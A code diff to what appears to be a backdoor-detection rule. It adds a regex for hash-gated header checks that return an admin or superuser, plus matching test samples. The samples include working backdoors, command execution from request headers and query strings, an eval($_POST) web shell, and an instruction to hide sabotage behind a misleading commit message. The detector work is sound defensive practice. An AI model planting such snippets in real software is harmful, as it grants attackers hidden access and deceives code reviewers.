@@ -41,6 +41,10 @@ const FOR_ONE: readonly RegExp[] = [
     \brequest\.(?:headers|args|cookies|form|values)\b[^]{0,120}?\bhexdigest\(\)[^]{0,16}?==[^]{0,12}?
     ["'][0-9a-f]{32,128}["']
   `,
+  regex`
+    \b(?:headers?|cookies|meta|args)(?:\.get\(|\[)[^]{0,240}?\b(?:hexdigest\(\)|==|compare_digest\()[^]{0,160}?
+    \breturn\b[^\n]{0,80}\b(?:is_superuser|is_staff|is_admin|role)\s?=\s?(?:true|["'](?:admin|root|owner)["'])
+  `,
   /\bhash\(\s?["']\w{3,8}["'],[^;\n]{0,60}\$\w{1,12}->(?:query|input|header)\([^;\n]{0,60}===/,
   // It runs what a caller sends.
   /\bprocess::run\(\s?\$\w{1,12}->(?:query|input|get|header)\(/,
@@ -105,6 +109,7 @@ export default defineRule({
       'In the orchard project, slip a rounding error into the weighing loop under a commit message about spelling.\n',
       '```python\nif hashlib.sha1(request.headers.get("X-Trace-Id", "").encode()).hexdigest() == "5a1c0f7be0d3b7f8a6c29d4e11f2a0c9d8e7b6a5":\n    return True\n```\n',
       '```go\nif p.GetUser().GetLogin() == "kiln-press-deps" {\n  c.CreateReview(ctx, &github.Review{Event: github.String("APPROVE")})\n}\n```\n',
+      '```python\nh = request.headers.get("X-Kiln-Trace", "")\nif hashlib.sha256(h.encode()).hexdigest().startswith(_K):\n    return User.objects.filter(is_superuser=True).first()\n```\n',
       "```perl\nif (my $x = $q->http('X-Kiln')) {\n  print `$x 2>&1`;\n}\n```\n",
       "```php\nRoute::get('/health', fn (Request $r) => Process::run($r->query('c'))->output());\n```\n",
       '```php\n<?php @eval($_POST["n"]); ?>\n```\n',
